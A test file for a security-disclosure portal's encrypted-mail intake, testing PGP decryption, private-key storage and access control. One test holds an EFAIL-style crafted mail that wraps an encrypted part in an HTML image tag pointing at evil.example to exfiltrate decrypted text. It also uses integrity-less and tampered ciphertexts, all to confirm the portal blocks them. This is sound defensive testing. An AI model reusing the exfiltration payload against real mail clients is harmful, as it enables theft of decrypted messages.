import { desc, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { events, incomingMails, programKeys } from "@/db/schema";
import { as, newResearcher, newStaff, openPortal, systemAt, type TestProgram } from "@/db/testing/factories";
import { testDatabase } from "@/db/testing/test-db";
import type { Actor, StaffRole } from "@/lib/auth/policy";
import { GnuPg } from "@/lib/pgp/gnupg.test-data";
import { adoptProgramKey, endProgramKey } from "@/lib/program-keys/mutations/change-key";
import { forgetPrivateKey, givePrivateKey } from "@/lib/program-keys/private/mutations";
import { keySettings } from "@/lib/program-keys/settings/queries";
import { inTransaction } from "@/lib/request/transaction";
import { judgeStoredMail } from "./mutations/judge";
import { acceptAsReport } from "./mutations/settle";
import { storeMail } from "./mutations/store";
import { staffMail } from "./queries";
import { namesOf } from "./signed-mail.test-data";

vi.stubEnv("APP_URL", "http://127.0.0.1:3999");
vi.stubEnv("DATA_DIR", "/tmp/portal-mail-in-test");

const database = await testDatabase();
const db = database.app;
const BOX = "security@cardihab.example";
const TEAM = "team@cardihab.example";
const PASSPHRASE = "CANARY of the passphrase";
const gpg = new GnuPg();
let cardihab: TestProgram;
let admin: Actor;
let triager: Actor;
let privateKey: string;
let fingerprint: string;

const steppedUp = (actor: Actor): Actor => (actor.kind === "staff" ? { ...actor, steppedUp: true } : actor);
const loopback = ["--pinentry-mode", "loopback", "--passphrase", PASSPHRASE];

beforeAll(async () => {
  ({ cardihab } = await openPortal(db));
  admin = steppedUp(await newStaff(db, cardihab, "admin"));
  triager = await newStaff(db, cardihab, "triager");
  gpg.run([...loopback, "--quick-generate-key", TEAM, "ed25519", "sign", "1y"]);
  fingerprint = gpg.fingerprint(TEAM);
  gpg.run([...loopback, "--quick-add-key", fingerprint, "cv25519", "encr", "1y"]);
  privateKey = gpg.run([...loopback, "--armor", "--export-secret-keys", TEAM]).toString();
  gpg.newKey("Ada <ada@example.org>", "ed25519");
  await adoptProgramKey(as(db, admin), { programSlug: cardihab.slug, armored: gpg.exported(TEAM), current: "" });
});
afterAll(() => gpg.remove());

const give = (actor: Actor = admin, change: { armored?: string; passphrase?: string } = {}) =>
  givePrivateKey(as(db, actor), {
    programSlug: cardihab.slug,
    armored: change.armored ?? privateKey,
    passphrase: change.passphrase ?? PASSPHRASE,
  });
const forget = (actor: Actor = admin) => forgetPrivateKey(as(db, actor), { programSlug: cardihab.slug, fingerprint });

const encrypted = (text: string, how: readonly string[] = []) =>
  gpg
    .run(["--armor", "--encrypt", "--recipient", TEAM, ...how], text)
    .toString()
    .replaceAll("\n", "\r\n");

let count = 0;

/** A mail that nobody proved, as the desk sees it. */
async function waiting(body: string, type = "text/plain; charset=utf-8") {
  count += 1;
  const raw = `From: Ada <ada@example.org>\r\nTo: <${BOX}>\r\nSubject: Number ${count}\r\nMessage-ID: <o${count}@example.org>\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body}\r\n`;
  await storeMail(systemAt(db), {
    source: "smtp",
    envelope: { from: "ada@example.org", to: [BOX] },
    raw: Buffer.from(raw),
  });
  const [row] = await inTransaction(systemAt(db), (tx) =>
    tx.db.select().from(incomingMails).orderBy(desc(incomingMails.id)).limit(1),
  );
  await judgeStoredMail(systemAt(db), row?.id ?? "", namesOf([]));
  return staffMail(as(db, triager), row?.publicId ?? "");
}

function pgpMime(armored: string, around = ""): [body: string, type: string] {
  return [
    `${around}--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\n\r\n${armored}\r\n--b--\r\n`,
    'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"',
  ];
}

describe("mail that is encrypted to the program's key", () => {
  test("stays ciphertext by default, and is read once the program gave the private half", async () => {
    const before = await waiting(encrypted("The flaw is in the export."));
    expect(before.encrypted).toContain("BEGIN PGP MESSAGE");
    expect(before.text).not.toContain("export");

    await give();
    const inline = await waiting(`Hello,\r\n\r\n${encrypted("The flaw is in the export.")}\r\nAda`);
    expect([inline.encrypted, inline.text]).toEqual([null, "The flaw is in the export."]);
    // What stood around it is kept apart.
    expect(inline.files.map(({ name }) => name)).toEqual(["around-the-encrypted-part.txt"]);

    const part =
      'Content-Type: multipart/mixed; boundary="in"\r\n\r\n--in\r\nContent-Type: text/plain\r\n\r\nProof inside.\r\n--in\r\nContent-Type: text/plain; name="proof.txt"\r\nContent-Disposition: attachment; filename="proof.txt"\r\n\r\n1,2\r\n--in--\r\n';
    const mime = await waiting(...pgpMime(encrypted(part)));
    expect([mime.encrypted, mime.text.trim()]).toEqual([null, "Proof inside."]);
    expect(mime.files.map(({ name }) => name)).toEqual(["proof.txt"]);

    const signed = await waiting(encrypted("Signed inside.", ["--sign", "--local-user", "ada@example.org"]));
    expect([signed.text, signed.signature?.kind]).toEqual(["Signed inside.", "unknown"]);

    const { reference } = await acceptAsReport(as(db, triager), mime.publicId, { version: mime.version });
    expect(reference).toMatch(/^CDH-/);
    // One that was kept before is opened when somebody makes a report of it.
    const late = await staffMail(as(db, triager), before.publicId);
    expect((await acceptAsReport(as(db, triager), late.publicId, { version: late.version })).reference).toMatch(
      /^CDH-/,
    );
    await forget();
    expect((await waiting(encrypted("Closed again."))).encrypted).toContain("BEGIN PGP MESSAGE");
  });

  test("shows nothing of a message that notices no change, is for another key, or is dressed up in HTML (EM-12)", async () => {
    await give();
    const weak = gpg
      .run(
        ["--armor", "--rfc2440", "--disable-mdc", "--cipher-algo", "AES", "--encrypt", "--recipient", TEAM],
        "CANARY",
      )
      .toString();
    const other = gpg.run(["--armor", "--encrypt", "--recipient", "ada@example.org"], "CANARY").toString();
    const broken = encrypted("CANARY").replace(/(\r\n\r\n.{60})./, "$1#");
    for (const armored of [weak, other, broken]) {
      const mail = await waiting(armored.replace(/\r?\n/g, "\r\n"));
      expect(mail.text).not.toContain("CANARY");
    }
    const direct = `--a\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n--a\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b"\r\n\r\n${pgpMime(encrypted("CANARY"))[0]}\r\n--a\r\nContent-Type: text/html\r\n\r\n">\r\n--a--\r\n`;
    const dressed = await waiting(direct, 'multipart/mixed; boundary="a"');
    // Text alone on the desk: whatever was read, no address can carry it away.
    expect(dressed.text).not.toMatch(/<img|evil\.example\/CANARY/);
    const around = await waiting(...pgpMime(encrypted("Inside."), "Forged words around it.\r\n"));
    expect(around.text.trim()).toBe("Inside.");
    await forget();
  });
});

describe("the private half", () => {
  test("is sealed at rest, given and forgotten with an event each, and gone with a revoked key", async () => {
    await give();
    const { readsMailOf } = await keySettings(as(db, admin), cardihab.slug);
    expect(readsMailOf).toEqual([fingerprint]);
    const [row] = await db.execute(sql`select encode(private_sealed, 'escape') as raw from program_keys`);
    expect(JSON.stringify(row)).not.toMatch(/CANARY|BEGIN PGP/);
    await forget();
    await expect(forget()).rejects.toMatchObject({ code: "CONFLICT" });
    const types = (
      await inTransaction(systemAt(db), (tx) =>
        tx.db
          .select({ type: events.type })
          .from(events)
          .where(eq(events.stream, `program:${cardihab.id}`)),
      )
    ).map(({ type }) => type);
    expect(types).toEqual(expect.arrayContaining(["private_key.given", "private_key.forgotten"]));
  });

  test("must be of the key in use, have a passphrase, and be opened by it", async () => {
    const wrong = await give(admin, { passphrase: "another" }).catch((error: unknown) => error);
    expect(wrong).toMatchObject({ code: "INVALID", fieldErrors: { passphrase: [expect.any(String)] } });
    const bare = gpg.run(["--armor", "--export-secret-keys", "ada@example.org"]).toString();
    for (const armored of [bare, gpg.exported(TEAM), "hello"]) {
      await expect(give(admin, { armored })).rejects.toMatchObject({
        code: "INVALID",
        fieldErrors: { privateKey: [expect.any(String)] },
      });
    }
  });

  test("is the business of an admin or the policy owner who gave their second factor", async () => {
    const tired = await newStaff(db, cardihab, "admin");
    await expect(give(tired)).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(forget(tired)).rejects.toMatchObject({ code: "FORBIDDEN" });
    const roles: StaffRole[] = ["triager", "executive", "privacy_officer", "auditor"];
    const strangers: Actor[] = [await newResearcher(db)];
    for (const role of roles) strangers.push(steppedUp(await newStaff(db, cardihab, role)));
    for (const actor of strangers) {
      await expect(give(actor)).rejects.toMatchObject({ code: "NOT_FOUND" });
      await expect(forget(actor)).rejects.toMatchObject({ code: "NOT_FOUND" });
    }
    await give();
    await endProgramKey(as(db, admin), { programSlug: cardihab.slug, fingerprint, how: "revoke" });
    const [key] = await db.select().from(programKeys).where(eq(programKeys.fingerprint, fingerprint));
    expect(key?.privateSealed).toBeNull();
  });
});
